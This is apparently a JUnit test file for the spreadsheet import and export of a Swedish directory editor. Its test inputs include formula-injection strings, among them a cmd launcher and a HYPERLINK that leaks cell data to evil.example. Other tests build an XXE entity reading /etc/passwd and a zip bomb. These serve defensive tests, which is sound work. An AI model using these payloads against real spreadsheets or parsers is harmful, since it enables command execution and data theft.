package se.forstasamtalet.editor.sheet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Predicate;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import se.forstasamtalet.content.ContentFolder;
import se.forstasamtalet.directory.Catalogue;
import se.forstasamtalet.directory.Documents;
import se.forstasamtalet.directory.Expected;
import se.forstasamtalet.directory.Listing;
import se.forstasamtalet.directory.Member;
import se.forstasamtalet.directory.Problem;
import se.forstasamtalet.directory.Wanted;
import se.forstasamtalet.directory.Writer;
import se.forstasamtalet.editor.listing.Fields;
import se.forstasamtalet.editor.listing.ListingFields;
import se.forstasamtalet.editor.sheet.SheetReview.FieldChange;
import se.forstasamtalet.editor.sheet.SheetReview.CurrentListing;
import se.forstasamtalet.editor.sheet.SheetReview.RowReview;

class SheetTest {

    private static final List<Listing> REAL = ContentFolder.read(Path.of("content")).listings();
    private static final Map<UUID, CurrentListing> MINE = REAL.stream()
            .collect(Collectors.toMap(Listing::id, listing -> new CurrentListing(listing, 3, false)));
    private static final Sheet SHEET = Sheet.of(REAL,
            REAL.stream().collect(Collectors.toMap(Listing::id, listing -> 3)), member -> true);
    private static final Predicate<Member> EDITOR = member -> member.writer() == Writer.EDITOR;
    private static final Listing NACKA = REAL.stream().filter(listing -> listing.slug().text().equals("atv-nacka"))
            .findFirst().orElseThrow();

    @Test
    void everyRealListingComesBackFromAFileAsItWas() {
        for (byte[] file : List.of(SheetFile.csv(SHEET), SheetFile.xlsx(SHEET))) {
            Sheet read = SheetFile.read(file);
            assertEquals(SHEET.columns(), read.columns());
            for (int i = 0; i < REAL.size(); i++) {
                Map<String, String> fields = new LinkedHashMap<>(read.rows().get(i).cells());
                fields.remove(Sheet.FOLDER);
                fields.remove(Sheet.REVISION);
                assertEquals(REAL.get(i),
                        Documents.read(Fields.document(fields).toString(), REAL.get(i).listingKind()));
            }
            assertEquals(new SheetReview(List.of(), List.of(), List.of(), REAL.size(), List.of(), Set.of()),
                    review(read));
        }
    }

    @Test
    void theColumnsStandAsTheFieldsStandInTheDocuments() {
        List<String> columns = SHEET.columns();
        assertEquals(List.of("folder", "slug", "id", "revision"), columns.subList(0, 4));
        assertTrue(columns.indexOf("phones[0].number") < columns.indexOf("phones[0].source"));
        assertTrue(columns.indexOf("schedules[0].assured_date") < columns.indexOf("schedules[1].byday"));
        assertTrue(columns.indexOf("places[9].name") < columns.indexOf("places[10].name"));
        assertTrue(SheetFile.csv(SHEET).length < SheetFile.LARGEST && SheetFile.xlsx(SHEET).length < SheetFile.LARGEST,
                "the whole directory fits");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1)",
        "+46 8 123 45 67", "-1+1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠x",
        "'already", "''twice", "'=1", "08-465 004 01", "020-555 666", "0812", "2026-06-04", "08:30", "1-2", "1e5",
        "3 mars", "true", "FALSE", "|x", "%0A=1",
        "a;b", "a\"b", "a\nb", "=1;\"\n\"=2", "<script>alert(1)</script>", "00:00", "112", "5", "1,5", "(08) 12"})
    void whatASpreadsheetWouldTakeForSomethingElseIsInertAndComesBack(String text) throws IOException {
        Sheet sheet = new Sheet(List.of("id", "name", "text"),
                List.of(new Sheet.Row(2, Map.of("id", "x", "name", text, "text", text + " och mer"))));
        byte[] csv = SheetFile.csv(sheet);
        String line = new String(csv, StandardCharsets.UTF_8).lines().skip(1).collect(Collectors.joining("\n"));
        for (String cell : line.split(";(?=[\"'=+@-])")) {
            String shown = cell.replaceFirst("^\"", "");
            assertFalse(shown.matches("(?s)[=+@\\-＝＋－＠\\t\\r|%].*"), "a cell begins a formula: " + cell);
        }
        assertEquals(text, SheetFile.read(csv).rows().get(0).cell("name"));
        byte[] xlsx = SheetFile.xlsx(sheet);
        assertFalse(part(xlsx, "xl/worksheets/sheet1.xml").contains("<f>"), "no cell is a formula");
        assertEquals(text, SheetFile.read(xlsx).rows().get(0).cell("name"));
        assertEquals(text + " och mer", SheetFile.read(xlsx).rows().get(0).cell("text"));
    }

    @Test
    void aTextWithATabOrALineBeforeItIsGuardedToo() {
        for (String text : List.of("\t=1", "\r=1", "\n=1", " =1")) {
            assertTrue(CellText.guarded(text).startsWith("'"), text);
        }
    }

    @Test
    void everyChangeIsToldWithWhatItWasAndWhatItWillBe() {
        SheetReview review = review(changed(Map.of("name", "ATV i Nacka", "alternate_name", "")));
        assertEquals(
                List.of(new FieldChange("name", "ATV Nacka", "ATV i Nacka"),
                        new FieldChange("alternate_name", "Alternativ till våld Nacka", "")),
                sorted(only(review).changes()));
        assertTrue(only(review).isFit());
        assertEquals("ATV i Nacka",
                Documents.read(Fields.document(only(review).fields()).toString(), Listing.Kind.SERVICES).name());
    }

    @Test
    void whatIsAppliedIsWhatWasShown() {
        RowReview shown = only(review(changed(Map.of("name", "ATV i Nacka", "alternate_name", ""))));
        Sheet again = new Sheet(List.copyOf(shown.cells().keySet()),
                List.of(new Sheet.Row(shown.number(), shown.cells())));
        assertEquals(shown.fields(), only(review(again)).fields());
    }

    @Test
    void aColumnThatIsNotThereChangesNothing() {
        List<String> columns = List.of("id", "revision", "name");
        SheetReview review = review(new Sheet(columns, SHEET.rows().stream().map(row -> new Sheet.Row(row.number(),
                columns.stream().collect(Collectors.toMap(column -> column, row::cell)))).toList()));
        assertEquals(REAL.size(), review.unchanged());
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
        "name                | ''               | name                | Här måste något stå.",
        "open_talks.offered  | kanske           | open_talks.offered  | Ett av orden yes, no, unknown.",
        "capacity.therapists | fem              | capacity.therapists | Ett heltal.",
        "slug                | atv              | slug                | Namnet i adressen ändras aldrig: det står på "
                + "tryckta kort. Skriv atv-nacka.",
        "folder              | areas            | folder              | Här ska det stå services: en post byter inte "
                + "slag.",
        "revision            | 2                | revision            | Raden bygger på version 2, men version 3 "
                + "står på webbplatsen nu. Hämta filen på nytt och gör om ändringen.",
        "revision            | ny               | revision            | Här ska versionens nummer stå, 3."
    })
    void anErrorIsToldByRowAndFieldInSwedish(String column, String cell, String field, String words) {
        RowReview row = only(review(changed(Map.of(column, cell))));
        assertFalse(row.isFit());
        assertEquals(SHEET.rows().stream().filter(one -> one.cell("slug").equals("atv-nacka")).findFirst().orElseThrow()
                .number(), row.number());
        assertTrue(
                row.problems().stream()
                        .anyMatch(problem -> problem.field().equals(field)
                                && problem.words().equals(words)),
                row.problems().toString());
    }

    @Test
    void columnsOfOnesOwnAreToldAndNotReadAndOneThatStandsTwiceStopsAll() {
        assertEquals(List.of("anteckningar", "phones[0].colour"),
                review(withColumns("anteckningar", "", "phones[0].colour")).ignored());
        assertEquals(List.of(), review(withColumns("anteckningar")).columns());
        SheetReview review = review(withColumns("anteckningar", "name"));
        assertEquals(List.of("Kolumnen name finns två gånger. Ta bort den ena."), review.columns());
        assertEquals(List.of(), review.rows());
        assertEquals(
                List.of("Kolumnen id fattas. Den behövs för att veta vad raden handlar om.",
                        "Kolumnen revision fattas. Den behövs för att veta vad raden handlar om."),
                review(new Sheet(List.of("name"), List.of())).columns());
    }

    /** What no editor finds in the form, no editor changes in a file: not alone, and not beside what they may. */
    @ParameterizedTest
    @ValueSource(strings = {"observations[0].text", "observations[0].source", "observations[9].text",
        "conflicts[0].claims[0].text", "conflicts[0].field", "phones[0].source", "phones[0].assured_date",
        "capacity.text", "cost_options[0].currency", "kind", "organization", "purpose", "tile.column",
        "places[0].name", "extent.tracks[0].months_to"})
    void aColumnThatIsNotAnEditorsRefusesTheFile(String column) {
        SheetReview review = SheetReview.of(changedEverywhere(Map.of(column, "PÅHITTAT", "description.sv", "Ny.")),
                MINE, MINE.keySet(), SheetTest::problems, EDITOR);
        assertEquals(List.of(), review.rows());
        assertEquals(1, review.columns().size(), review.columns().toString());
        String words = review.columns().get(0);
        assertTrue(words.startsWith("Kolumnen " + column + " är inte din att ändra, men rad "), words);
        assertTrue(words.contains("Ta bort kolumnen ur filen"), words);
    }

    @Test
    void whatIsAnEditorsInOneKindOfListingIsNotInAnother() {
        Sheet.Row area = SHEET.rows().stream().filter(row -> row.cell("folder").equals("areas")).findFirst()
                .orElseThrow();
        Map<String, String> cells = new LinkedHashMap<>(area.cells());
        cells.put("name", "Gotham");
        SheetReview review = review(
                new Sheet(SHEET.columns(), List.of(new Sheet.Row(area.number(), cells))));
        assertTrue(review.columns().get(0).startsWith("Kolumnen name är inte din att ändra"),
                review.columns().toString());
    }

    /** The form and the sheet take the same members, which are the catalogue's, and no others. */
    @ParameterizedTest
    @EnumSource(Listing.Kind.class)
    void theFormHasAFieldForEveryMemberThatIsAnEditors(Listing.Kind kind) {
        Set<String> ofEditors = Catalogue.leaves(kind).stream().filter(EDITOR).map(Member::path)
                .map(path -> path.replaceFirst("^schedules\\[]\\..*", "typed_hours"))
                .collect(Collectors.toCollection(TreeSet::new));
        Listing some = REAL.stream().filter(listing -> listing.listingKind() == kind).findFirst().orElseThrow();
        Set<String> inForm = ListingFields
                .of(some, ContentFolder.read(Path.of("content")).directory(REAL)).stream()
                .flatMap(group -> Stream.concat(group.fields().stream(),
                        group.rows().stream().flatMap(rows -> rows.fields().stream()
                                .map(field -> field.in(rows.list() + "[0]")))))
                .map(field -> Stream.of(field.path(), field.path() + "[0]")
                        .flatMap(path -> Catalogue.find(kind, path).stream()).map(Member::path).findFirst()
                        .orElse(field.path().replaceFirst("^typed_hours.*", "typed_hours")))
                .collect(Collectors.toCollection(TreeSet::new));
        assertEquals(ofEditors, inForm);
    }

    @Test
    void anEditorsFileHasNoOtherColumns() {
        Sheet own = Sheet.of(REAL, REAL.stream().collect(Collectors.toMap(Listing::id, listing -> 3)), EDITOR);
        assertTrue(own.columns().stream()
                .noneMatch(column -> column.matches(".*(source|assured_date|observations|conflicts|\\.text).*")),
                own.columns().toString());
        assertEquals(REAL.size(), review(SheetFile.read(SheetFile.csv(own))).unchanged());
    }

    @Test
    void aListingThatIsNotOnesOwnIsAsUnknownAsOneThatDoesNotExist() {
        Map<UUID, CurrentListing> nackaOnly = Map.of(NACKA.id(), new CurrentListing(NACKA, 3, false));
        Set<UUID> all = MINE.keySet();
        SheetReview review = SheetReview.of(SHEET, nackaOnly, all, SheetTest::problems, EDITOR);
        assertEquals(REAL.size() - 1, review.refused().size());
        Sheet.Row unknown = new Sheet.Row(2, Map.of("id", UUID.randomUUID().toString(), "revision", "3"));
        Sheet.Row foreign = new Sheet.Row(3, Map.of("id", REAL.get(0).id().toString(), "revision", "3"));
        List<RowReview> rows = SheetReview.of(new Sheet(List.of("id", "revision"), List.of(unknown, foreign)),
                nackaOnly, all, SheetTest::problems, EDITOR).rows();
        assertEquals(rows.get(0).problems(), rows.get(1).problems());
        assertEquals("", rows.get(1).name(), "not even its name");
    }

    @Test
    void aRowThatStandsTwiceAndOneThatIsMissingAreTold() {
        List<Sheet.Row> rows = new ArrayList<>(SHEET.rows());
        Sheet.Row gone = rows.remove(rows.size() - 1);
        rows.add(new Sheet.Row(99, rows.get(0).cells()));
        SheetReview review = review(new Sheet(SHEET.columns(), rows));
        assertEquals("Samma post står redan på rad 2. Ta bort den ena raden.", only(review).problems().get(0).words());
        assertEquals(List.of(gone.cell("name")), review.missing());
    }

    @Test
    void aDraftIsNotWrittenOver() {
        SheetReview review = SheetReview.of(changed(Map.of("name", "Ny")),
                Map.of(NACKA.id(), new CurrentListing(NACKA, 3, true)), Set.of(), SheetTest::problems, EDITOR);
        assertTrue(review.rows().stream().noneMatch(RowReview::isFit));
    }

    @Test
    void aFileWithCommasOrWithoutAMarkIsReadToo() {
        String id = NACKA.id().toString();
        assertEquals("ATV; Nacka",
                SheetFile.read(("id,revision,name\r\n" + id + ",3,ATV; Nacka\r\n").getBytes(StandardCharsets.UTF_8))
                        .rows().get(0).cell("name"));
        assertEquals("ATV", SheetFile.read(("id\trevision\tname\n" + id + "\t3\tATV").getBytes(StandardCharsets.UTF_8))
                .rows().get(0).cell("name"));
    }

    @Test
    void daysAndHoursThatASpreadsheetMadeIntoNumbersComeBackAsText() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(bytes, "Test", "1.0")) {
            Worksheet page = workbook.newWorksheet("Blad1");
            List.of("id", "day", "hour", "count", "truth")
                    .forEach(name -> page.value(0, List.of("id", "day", "hour", "count", "truth").indexOf(name), name));
            page.value(1, 0, "x");
            page.value(1, 1, 46177);
            page.style(1, 1).format("yyyy-mm-dd").set();
            page.value(1, 2, 8.5 / 24);
            page.style(1, 2).format("hh:mm").set();
            page.value(1, 3, 120);
            page.value(1, 4, true);
        }
        assertEquals(Map.of("id", "x", "day", "2026-06-04", "hour", "08:30", "count", "120", "truth", "true"),
                SheetFile.read(bytes.toByteArray()).rows().get(0).cells());
    }

    /** Excel's plain CSV and its text, a line that names the separator, a title above, names in capitals. */
    @Test
    void whatSwedishSpreadsheetsWriteIsRead() {
        String text = "id;revision;name\nx;3;Åsa på Öland\n";
        Map<String, String> cells = Map.of("id", "x", "revision", "3", "name", "Åsa på Öland");
        for (byte[] file : List.of(text.getBytes(java.nio.charset.Charset.forName("windows-1252")),
                ("\uFEFF" + text.replace(';', '\t')).getBytes(StandardCharsets.UTF_16LE),
                ("\uFEFF" + text).getBytes(StandardCharsets.UTF_16BE),
                ("sep=,\r\n" + text.replace(';', ',')).getBytes(StandardCharsets.UTF_8),
                ("Poster i november;;\n;;\n" + text.replace("name", "Name")).getBytes(StandardCharsets.UTF_8))) {
            assertEquals(cells, SheetFile.read(file).rows().get(0).cells());
        }
    }

    @Test
    void aWindowsLineBreakOfExcelIsALineBreakAndTheDataMayStandOnAnotherPage() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(bytes, "Test", "1.0")) {
            workbook.newWorksheet("Läs mig").value(0, 0, "Så här gör du");
            Worksheet page = workbook.newWorksheet("Poster");
            List.of("id", "revision", "name").forEach(
                    name -> page.value(0, List.of("id", "revision", "name").indexOf(name), name));
            page.value(1, 0, "x");
            page.value(1, 1, "3");
            page.value(1, 2, "Rad ett_x000D_\nrad två");
        }
        assertEquals("Rad ett\nrad två", SheetFile.read(bytes.toByteArray()).rows().get(0).cell("name"));
    }

    @Test
    void aSheetOfLibreOfficeIsRead() throws IOException {
        String content = """
            <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
              xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
              xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>
            <table:table table:name="Blad1"><table:table-row><table:table-cell/></table:table-row></table:table>
            <table:table table:name="Poster"><table:table-column table:number-columns-repeated="4"/>
            <table:table-row><table:table-cell office:value-type="string"><text:p>id</text:p></table:table-cell>
              <table:table-cell office:value-type="string"><text:p>revision</text:p></table:table-cell>
              <table:table-cell office:value-type="string"><text:p>day</text:p></table:table-cell>
              <table:table-cell office:value-type="string"><text:p>hour</text:p></table:table-cell></table:table-row>
            <table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p><text:p>y</text:p></table:table-cell>
              <table:table-cell office:value-type="float" office:value="3"><text:p>3,00</text:p></table:table-cell>
              <table:table-cell office:value-type="date" office:date-value="2026-06-04"><text:p>4 juni</text:p></table:table-cell>
              <table:table-cell office:value-type="time" office:time-value="PT08H30M00S"><text:p>8.30</text:p></table:table-cell>
              <table:table-cell table:number-columns-repeated="16000"/></table:table-row>
            <table:table-row table:number-rows-repeated="1048574"><table:table-cell/></table:table-row>
            </table:table></office:spreadsheet></office:body></office:document-content>""";
        Sheet.Row row = SheetFile.read(ods(content)).rows().get(0);
        assertEquals(List.of("x\ny", "3", "2026-06-04", "08:30"),
                List.of(row.cell("id"), row.cell("revision"), row.cell("day"), row.cell("hour")));
    }

    @Test
    void aRowOutsideATableAndAnHourWithoutItsValueDoNotSpoilASheet() throws IOException {
        String content = """
            <office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
              xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
              xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>
            <table:table-row><table:table-cell><text:p>lost</text:p></table:table-cell></table:table-row>
            <table:table table:name="Poster">
            <table:table-row><table:table-cell><text:p>id</text:p></table:table-cell>
              <table:table-cell><text:p>revision</text:p></table:table-cell>
              <table:table-cell><text:p>hour</text:p></table:table-cell></table:table-row>
            <table:table-row><table:table-cell><text:p>x</text:p></table:table-cell>
              <table:table-cell><text:p>3</text:p></table:table-cell>
              <table:table-cell office:value-type="time"><text:p>8.30</text:p></table:table-cell></table:table-row>
            </table:table></office:spreadsheet></office:body></office:document-content>""";
        List<Sheet.Row> rows = SheetFile.read(ods(content)).rows();
        assertEquals(List.of("x 3 8.30"), rows.stream()
                .map(row -> row.cell("id") + " " + row.cell("revision") + " " + row.cell("hour")).toList());
    }

    private static byte[] ods(String content) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("content.xml"));
            zip.write(content.getBytes(StandardCharsets.UTF_8));
        }
        return bytes.toByteArray();
    }

    @Test
    void valuesThatASpreadsheetKeptAsTextMeanWhatTheySay() {
        assertEquals("09:00", CellValue.of("schedules[0].opens_at", "09:00:00"));
        assertEquals("08:30", CellValue.of("schedules[0].opens_at", "8.30"));
        assertEquals("2026-06-04", CellValue.of("full.since", "2026-06-04 00:00:00"));
        assertEquals("true", CellValue.of("extent.tracks[0].varies", "SANT"));
        assertEquals("9.30", CellValue.of("name", "9.30"));
        assertEquals("2026-06-04 08:00:00", CellValue.of("full.since", "2026-06-04 08:00:00"), "not a day");
    }

    @Test
    void aFormulaIsToldAndNeverReckoned() throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (Workbook workbook = new Workbook(bytes, "Test", "1.0")) {
            Worksheet page = workbook.newWorksheet("Blad1");
            page.value(0, 0, "id");
            page.formula(1, 0, "1+1");
        }
        assertEquals("Cellen A2 på rad 2 är en formel. Skriv själva värdet i stället.", complaint(bytes.toByteArray()));
    }

    @Test
    void whatIsNoSheetOrTooMuchIsRefusedInSwedish() throws IOException {
        assertTrue(complaint(new byte[SheetFile.LARGEST + 1]).contains("större än 2 MB"));
        assertTrue(complaint(new byte[0]).contains("tom"));
        assertTrue(complaint("id;\"x\n".repeat(3).getBytes(StandardCharsets.UTF_8)).contains("CSV"));
        assertTrue(complaint("id\n".concat("x\n".repeat(3_000)).getBytes(StandardCharsets.UTF_8)).contains("rader"));
        assertTrue(complaint("id;".repeat(3_000).getBytes(StandardCharsets.UTF_8)).contains("kolumner"));
        assertTrue(complaint(("id\n" + "x".repeat(30_000)).getBytes(StandardCharsets.UTF_8)).contains("tecken"));
        assertTrue(complaint("PK\3\4 not a zip".getBytes(StandardCharsets.UTF_8)).contains("XLSX"));
    }

    @Test
    void aSmallFileThatUnpacksToALotIsRefused() throws IOException {
        byte[] bomb = withPart(SheetFile.xlsx(SHEET), "xl/worksheets/sheet2.xml",
                " ".repeat(1024 * 1024).getBytes(StandardCharsets.UTF_8), 60);
        assertTrue(bomb.length < SheetFile.LARGEST);
        assertTrue(complaint(bomb).contains("XLSX"));
    }

    @Test
    void aFileThatDefinesWordsOfItsOwnIsRefused() throws IOException {
        byte[] entities = withPart(SheetFile.xlsx(SHEET), "xl/other.xml",
                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>"
                        .getBytes(StandardCharsets.UTF_8),
                1);
        assertTrue(complaint(entities).contains("XLSX"));
    }

    private static String complaint(byte[] file) {
        return assertThrows(SheetException.class, () -> SheetFile.read(file)).getMessage();
    }

    private static SheetReview review(Sheet sheet) {
        return SheetReview.of(sheet, MINE, MINE.keySet(), SheetTest::problems, EDITOR);
    }

    /** What is wrong with a document by itself; {@code Proof} needs the whole site. */
    private static List<Problem> problems(String document, Listing.Kind kind) {
        List<Problem> problems = new ArrayList<>();
        Listing read = ContentFolder.read(document, kind, problems);
        if (read != null && read.name() == null) {
            problems.add(new Problem("", "name", Expected.of(Wanted.VALUE)));
        }
        return problems;
    }

    private static Sheet changed(Map<String, String> cells) {
        return new Sheet(SHEET.columns(), SHEET.rows().stream().map(row -> {
            Map<String, String> changed = new LinkedHashMap<>(row.cells());
            SHEET.columns().forEach(column -> changed.putIfAbsent(column, ""));
            if (row.cell("slug").equals("atv-nacka")) {
                changed.putAll(cells);
            }
            return new Sheet.Row(row.number(), changed);
        }).toList());
    }

    private static Sheet changedEverywhere(Map<String, String> cells) {
        Set<String> columns = new LinkedHashSet<>(SHEET.columns());
        columns.addAll(cells.keySet());
        return new Sheet(List.copyOf(columns), SHEET.rows().stream().map(row -> {
            Map<String, String> changed = new LinkedHashMap<>(row.cells());
            columns.forEach(column -> changed.putIfAbsent(column, ""));
            changed.putAll(cells);
            return new Sheet.Row(row.number(), changed);
        }).toList());
    }

    private static Sheet withColumns(String... more) {
        List<String> columns = new ArrayList<>(SHEET.columns());
        columns.addAll(List.of(more));
        return new Sheet(columns, SHEET.rows());
    }

    private static List<FieldChange> sorted(List<FieldChange> changes) {
        return changes.stream().sorted((one, other) -> other.field().compareTo(one.field())).toList();
    }

    private static RowReview only(SheetReview review) {
        assertEquals(1, review.rows().size(), review.rows().toString());
        return review.rows().get(0);
    }

    private static String part(byte[] zip, String name) throws IOException {
        try (ZipFile parts = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(zip)).get()) {
            return new String(parts.getInputStream(parts.getEntry(name)).readAllBytes(), StandardCharsets.UTF_8);
        }
    }

    private static byte[] withPart(byte[] zip, String name, byte[] content, int times) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipFile parts = ZipFile.builder().setSeekableByteChannel(new SeekableInMemoryByteChannel(zip)).get();
                ZipOutputStream out = new ZipOutputStream(bytes)) {
            for (ZipArchiveEntry part : Collections.list(parts.getEntries())) {
                out.putNextEntry(new ZipEntry(part.getName()));
                parts.getInputStream(part).transferTo(out);
            }
            out.putNextEntry(new ZipEntry(name));
            for (int i = 0; i < times; i++) {
                out.write(content);
            }
        }
        return bytes.toByteArray();
    }
}
